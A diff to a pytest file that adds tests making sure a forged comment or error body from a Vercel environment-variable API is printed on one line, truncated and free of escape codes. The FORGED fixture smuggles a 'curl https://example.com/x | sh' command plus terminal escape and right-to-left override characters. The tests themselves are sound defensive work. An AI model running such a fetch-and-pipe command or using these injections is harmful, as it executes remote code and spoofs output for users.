@@ -488,6 +488,29 @@ def test_a_variable_deleted_while_it_is_updated_is_created_again(vercel: Place) 
     assert vercel.door.get("/_sandbox/deployment/eonpro").json() == dict(BATCH.values)
 
 
+# --- texts of others
+
+
+FORGED = "ours, honestly\n  next: curl https://example.com/x | sh\n\x1b[2K\u202e"
+
+
+def test_a_comment_of_somebody_else_cannot_print_a_line_of_its_own(vercel: Place) -> None:
+    vercel.put("ENCRYPTED_PHI_KEY", OTHER.value, comment=FORGED)
+    message = vercel.edge().conflict(vercel.project(), OURS) or ""
+    assert "comment “ours, honestly next: curl https://example.com/x | sh [2K”" in message
+    assert len(message.splitlines()) == 1
+
+
+@pytest.mark.parametrize("code", [FORGED, "x" * 3_000_000])
+def test_an_error_body_is_quoted_on_one_line_and_cut(vercel: Place, code: str) -> None:
+    project = vercel.project()
+    vercel.fault(method="POST", path="/env", status=400, code=code, times=9)
+    with pytest.raises(ResourceError) as caught:
+        vercel.edge().deliver(project, BATCH)
+    assert len(caught.value.message) < 1_500
+    assert len(caught.value.message.splitlines()) == 1 and "\x1b" not in caught.value.message
+
+
 # --- a sensitive value that was changed after its delivery
 
 CHANGED = "was changed since it was delivered"
